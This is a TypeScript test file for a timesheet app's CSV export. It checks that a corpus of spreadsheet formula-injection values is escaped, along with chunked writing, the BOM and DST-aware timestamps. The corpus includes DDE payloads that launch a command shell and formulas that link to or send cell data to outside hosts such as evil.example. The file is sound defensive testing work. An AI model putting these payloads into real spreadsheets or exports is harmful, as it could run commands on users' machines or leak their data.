/**
 * CSV: a formula-injection corpus (OWASP) neutralised, read back with papaparse; numbers stay numbers;
 * chunked output equals one pass; local times carry their offset across DST.
 */
import Papa from 'papaparse';
import { LocalClock } from '../../src/logic/local-time';
import { resolveRange } from '../../src/logic/range';
import { buildTimesheet } from '../../src/logic/timesheet';
import { csvText, detailCsv, totalsCsv } from '../../src/render/csv';
import { isDangerousCell } from '../../src/render/formula-escape';
import { session } from '../support/sessions';

/** Values a spreadsheet could run as a formula (or that papaparse's own check misses). */
const DANGEROUS = [
  '=1+1',
  '=HYPERLINK("http://evil.example","click")',
  '+1+1',
  '-1+1',
  '@SUM(A1:A2)',
  '\t=1+1',
  '\r=1+1',
  '\0=1',
  '＝1+1',
  '＋1',
  '－1',
  '＠SUM(1)',
  "=cmd|' /C calc'!A0",
  "-2+3+cmd|' /C calc'!A0",
  "@cmd|' /C calc'!A0",
  '=IMPORTXML(CONCAT("http://x/?",A1),"//a")',
  'first line\n=1+1',
  'first line\r\n+1',
  'ok\n-1',
  'ok\n@x',
  'ok\n\t=1',
  'ok\n＝1',
  '=1+1\nsecond line',
  'a\nb\n=evil()',
  '\n=1',
  '=',
  '+',
  '-',
  '@',
  '="multi\nline"',
  '=DDE("cmd";"/C calc";"!A0")',
  '+"quoted"',
];

const SAFE = [
  'Ada',
  '1+1',
  'a=b',
  'email@example.com',
  ' =not at start? (space first)',
  'Анна',
  '山田',
  '👩‍👩‍👧',
  "'already",
];

describe('formula injection', () => {
  it(`has a corpus of at least 30 dangerous values`, () => {
    expect(DANGEROUS.length).toBeGreaterThanOrEqual(30);
  });

  it.each(DANGEROUS.map((v) => [JSON.stringify(v), v]))('neutralises %s', (_label, value) => {
    expect(isDangerousCell(value)).toBe(true);
    const text = csvText(['name', 'n'], [[value, -5]]);
    const parsed = Papa.parse<string[]>(text.trim(), { skipEmptyLines: false }).data;
    // Read back: the whole cell is text behind a leading apostrophe (a spreadsheet reads a cell, not its lines).
    expect(parsed[1]![0]).toBe(`'${value}`);
    // Numbers stay numbers (a negative number is not escaped).
    expect(parsed[1]![1]).toBe('-5');
    expect(text).toContain(`"'`);
  });

  it.each(SAFE.map((v) => [JSON.stringify(v), v]))('leaves %s as it is', (_label, value) => {
    const parsed = Papa.parse<string[]>(csvText(['name'], [[value]]).trim()).data;
    expect(parsed[1]![0]).toBe(value);
  });

  it("papaparse's own escapeFormulae misses a formula after the first line (why the check is ours)", () => {
    const theirs = Papa.unparse([['=1+1\nsecond line']], { escapeFormulae: true });
    expect(theirs.startsWith('"=1+1')).toBe(true);
  });
});

describe('files', () => {
  const zone = 'Europe/Berlin';
  const r = resolveRange({ from: '2026-03-28', to: '2026-03-30' }, zone, 0);
  if (!r.ok) throw new Error(r.message);
  const sessions = Array.from({ length: 25 }, (_, i) =>
    session(
      {
        userId: '200000000000000001',
        start: r.range.startMs + i * 7_200_000,
        end: r.range.startMs + i * 7_200_000 + 3_600_500,
        description: i === 3 ? '=1+1\nsecond' : '',
      },
      zone,
    ),
  );
  const sheet = buildTimesheet({
    sessions,
    range: r.range,
    zone,
    weekStart: 'monday',
    group: 'session',
    category: null,
    server: '=Server',
    userId: null,
    generatedAt: 0,
    categoryNames: new Map([['work', 'Work']]),
    memberNames: new Map([['200000000000000001', '@Ada']]),
  });
  const clock = new LocalClock(zone);

  async function text(chunkRows: number, bom = false): Promise<{ text: string; chunks: number }> {
    const chunks: string[] = [];
    for await (const c of detailCsv(sheet, clock, { bom, chunkRows })) chunks.push(c);
    return { text: chunks.join(''), chunks: chunks.length };
  }

  it('is written in chunks, and the chunks make the same file as one pass', async () => {
    const small = await text(4);
    const large = await text(1000);
    expect(small.chunks).toBe(1 + Math.ceil(25 / 4));
    expect(small.text).toBe(large.text);
  });

  it('starts with a BOM only when asked', async () => {
    expect((await text(10, true)).text.charCodeAt(0)).toBe(0xfeff);
    expect((await text(10, false)).text.charCodeAt(0)).not.toBe(0xfeff);
  });

  it('writes numbers as numbers, local times with offsets across the DST change, and the zone on every row', async () => {
    const rows = Papa.parse<Record<string, string>>((await text(10)).text, {
      header: true,
      skipEmptyLines: true,
    }).data;
    expect(rows).toHaveLength(25);
    expect(rows[0]!.member).toBe("'@Ada");
    expect(rows[0]!.start).toBe('2026-03-28T00:00:00+01:00');
    // 2026-03-29 02:00 local does not exist: 01:00+01:00 is followed by 03:00+02:00.
    expect(rows.map((row) => row.start)).toContain('2026-03-29T03:00:00+02:00');
    expect(rows[0]!.seconds).toBe('3601');
    expect(rows[3]!.note).toBe("'=1+1\nsecond");
    expect(new Set(rows.map((row) => row.time_zone))).toEqual(new Set([zone]));
    const sum = rows.reduce((acc, row) => acc + Number(row.seconds), 0);
    expect(sum).toBe(sheet.total.seconds);
  });

  it('has a totals file with the zone, the total and per-member lines', () => {
    const rows = Papa.parse<string[]>(totalsCsv(sheet, clock, { bom: false }).toString('utf8'), {
      skipEmptyLines: true,
    }).data;
    expect(rows).toContainEqual(['info', 'time zone: Europe/Berlin', '', '', '', '']);
    expect(rows).toContainEqual(['total', 'Total', '25', String(sheet.total.seconds), '25:00', '25']);
    expect(rows).toContainEqual(['info', 'server: =Server', '', '', '', '']);
  });
});
